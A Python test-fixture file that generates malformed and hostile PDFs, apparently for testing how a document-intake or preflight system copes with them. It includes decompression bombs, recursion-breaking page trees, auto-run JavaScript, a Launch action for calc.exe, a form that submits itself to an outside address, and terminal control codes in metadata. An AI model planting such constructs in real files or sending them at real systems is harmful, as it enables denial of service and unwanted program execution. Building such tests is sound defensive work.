"""Nasty PDFs: handed in as evidence, as a form, or for the preflight."""

import zlib
from collections.abc import Callable
from io import BytesIO

import pikepdf

Make = Callable[[], bytes]


def built(*objects: bytes, trailer: bytes = b"", version: bytes = b"1.7") -> bytes:
    """A PDF of these objects, numbered from 1, with a right cross-reference table; 1 is the catalog."""
    data = b"%PDF-" + version + b"\n"
    places = []
    for number, held in enumerate(objects, 1):
        places.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, held)
    start = len(data)
    data += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    data += b"".join(b"%010d 00000 n \n" % place for place in places)
    return data + b"trailer<</Root 1 0 R/Size %d%s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer,
        start,
    )


def stream(content: bytes, more: bytes = b"") -> bytes:
    """A stream object."""
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(content), more, content)


_CATALOG = b"<</Type/Catalog/Pages 2 0 R%s>>"
_PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R%s>>"
_TEXT = stream(b"BT ET")


def _page(more: bytes = b"", content: bytes = _TEXT, catalog: bytes = b"", *others: bytes) -> Make:
    return lambda: built(_CATALOG % catalog, _PAGES, _PAGE % more, content, *others)


def _bomb(layers: int) -> bytes:
    """A content stream of many megabytes, packed again and again."""
    data = b" " * (200 << 20)
    for _ in range(layers):
        data = zlib.compress(data, 9)
    filters = b"/FlateDecode" * layers
    return stream(data, b"/Filter[" + filters + b"]")


def _encrypted(user: str) -> bytes:
    held = BytesIO()
    with pikepdf.open(BytesIO(_page()())) as pdf:
        pdf.save(held, encryption=pikepdf.Encryption(owner="owner", user=user))
    return held.getvalue()


def _deep(depth: int) -> bytes:
    """A tree of pages so deep that whoever follows it by calling itself falls."""
    nodes = [b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (number + 3) for number in range(depth)]
    return built(_CATALOG % b"", *nodes, b"<</Type/Page/MediaBox[0 0 9 9]>>")


def _many(pages: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (number + 3) for number in range(pages))
    one = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>"
    return built(_CATALOG % b"", b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, pages), *[one] * pages)


_JAVASCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
_FIELD = b"<</FT/Tx/T(name)/Type/Annot/Subtype/Widget/Rect[0 0 9 9]/P 3 0 R%s>>"

PDFS: dict[str, Make] = {
    "nothing.pdf": lambda: b"",
    "only a head.pdf": lambda: b"%PDF-1.7\n",
    "zero bytes.pdf": lambda: bytes(4096),
    "a picture.pdf": lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4,
    "cut in the middle.pdf": lambda: _page()()[:200],
    "no trailer.pdf": lambda: _page()().split(b"trailer")[0],
    "a table that lies.pdf": lambda: _page()().replace(b"0000000", b"9999999"),
    "a trailer in itself.pdf": lambda: _page()().replace(b"trailer<<", b"trailer<</Prev 0/XRefStm 0"),
    "no catalog.pdf": lambda: _page()().replace(b"/Root 1 0 R", b""),
    "a catalog of a number.pdf": lambda: built(b"7", _PAGES, _PAGE % b"", _TEXT),
    "no pages.pdf": lambda: built(_CATALOG % b"", b"<</Type/Pages/Kids[]/Count 0>>"),
    "pages below nothing.pdf": lambda: built(
        _CATALOG % b"", b"<</Type/Pages/Kids[3 0 R]/Count -1>>", _PAGE % b"", _TEXT
    ),
    "a billion pages.pdf": lambda: built(
        _CATALOG % b"", b"<</Type/Pages/Kids[3 0 R]/Count 1000000000>>", _PAGE % b"", _TEXT
    ),
    "pages in a ring.pdf": lambda: built(
        _CATALOG % b"", b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>", _PAGE % b"", _TEXT
    ),
    "pages 5,000 deep.pdf": lambda: _deep(5_000),
    "3,000 pages.pdf": lambda: _many(3_000),
    "a page of a number.pdf": lambda: built(_CATALOG % b"", b"<</Type/Pages/Kids[7 (x) null]/Count 3>>"),
    "a page as wide as a county.pdf": lambda: _page()().replace(b"0 0 612 792", b"0 0 9e9 9e9"),
    "a page of no size.pdf": lambda: _page()().replace(b"0 0 612 792", b"0 0 0 0"),
    "a page of words.pdf": lambda: _page()().replace(b"[0 0 612 792]", b"(letter)"),
    "contents in itself.pdf": _page(content=stream(b"/X Do"), more=b"/Resources<</XObject<</X 4 0 R>>>>"),
    "a bomb.pdf": lambda: built(_CATALOG % b"", _PAGES, _PAGE % b"", _bomb(1)),
    "a bomb in a bomb.pdf": lambda: built(_CATALOG % b"", _PAGES, _PAGE % b"", _bomb(2)),
    "a number of thirty digits.pdf": lambda: _page()().replace(b"0 0 612 792", b"0 0 612 " + b"9" * 30),
    "a length of thirty digits.pdf": _page(
        content=b"<</Length " + b"9" * 30 + b">>\nstream\nBT ET\nendstream"
    ),
    "a length that lies.pdf": _page(content=b"<</Length 999999999>>\nstream\nBT ET\nendstream"),
    "a length in itself.pdf": _page(content=b"<</Length 4 0 R>>\nstream\nBT ET\nendstream"),
    "filters nobody knows.pdf": _page(content=stream(b"xx", b"/Filter[/Hurt/JBIG2Decode/CCITTFaxDecode]")),
    "does something.pdf": _page(catalog=b"/OpenAction " + _JAVASCRIPT),
    "does something by name.pdf": _page(catalog=b"/Names<</JavaScript<</Names[(a)" + _JAVASCRIPT + b"]>>>>"),
    "starts a program.pdf": _page(catalog=b"/OpenAction<</S/Launch/F(calc.exe)>>"),
    "sends itself.pdf": _page(more=b"/AA<</O<</S/SubmitForm/F(http://192.0.2.1/)>>>>"),
    "has a file in it.pdf": _page(catalog=b"/Names<</EmbeddedFiles<</Names[(a)5 0 R]>>>>", content=_TEXT),
    "names of a number.pdf": _page(catalog=b"/Names 7/OpenAction 7/AcroForm 7"),
    "annotations of a number.pdf": _page(more=b"/Annots 7"),
    "an annotation of a number.pdf": _page(more=b"/Annots[7 (x) null [1]]"),
    "asks for a password.pdf": lambda: _encrypted("secret"),
    "locked by its owner.pdf": lambda: _encrypted(""),
    "a form without fields.pdf": _page(catalog=b"/AcroForm<</Fields[]>>"),
    "a form of one field.pdf": lambda: built(
        _CATALOG % b"/AcroForm<</Fields[5 0 R]>>", _PAGES, _PAGE % b"/Annots[5 0 R]", _TEXT, _FIELD % b""
    ),
    "a field in itself.pdf": lambda: built(
        _CATALOG % b"/AcroForm<</Fields[5 0 R]>>",
        _PAGES,
        _PAGE % b"/Annots[5 0 R]",
        _TEXT,
        _FIELD.replace(b"/FT/Tx", b"") % b"/Parent 5 0 R",
    ),
    "a field of no place.pdf": lambda: built(
        _CATALOG % b"/AcroForm<</Fields[5 0 R]>>",
        _PAGES,
        _PAGE % b"/Annots[5 0 R]",
        _TEXT,
        (_FIELD % b"").replace(b"[0 0 9 9]", b"[(x)]"),
    ),
    "xfa.pdf": _page(catalog=b"/AcroForm<</Fields[]/XFA[(a)(b)]>>"),
    "a title of controls.pdf": lambda: built(
        _CATALOG % b"",
        _PAGES,
        _PAGE % b"",
        _TEXT,
        b"<</Title(\x00\x1b[2J\xfe\xff)/Author(SAMPLE, ROBIN)>>",
        trailer=b"/Info 5 0 R",
    ),
    "metadata of a bomb.pdf": lambda: built(
        _CATALOG % b"/Metadata 5 0 R",
        _PAGES,
        _PAGE % b"",
        _TEXT,
        stream(b'<!DOCTYPE x [<!ENTITY a "ha">]><x>&a;</x>', b"/Type/Metadata/Subtype/XML"),
    ),
    "bookmarks in a ring.pdf": lambda: built(
        _CATALOG % b"/Outlines 5 0 R",
        _PAGES,
        _PAGE % b"",
        _TEXT,
        b"<</First 6 0 R/Last 6 0 R/Count 1>>",
        b"<</Title(x)/Parent 5 0 R/Next 6 0 R/First 6 0 R>>",
    ),
    "a zip as well.pdf": lambda: b"PK\x03\x04" + bytes(26) + _page()(),
}
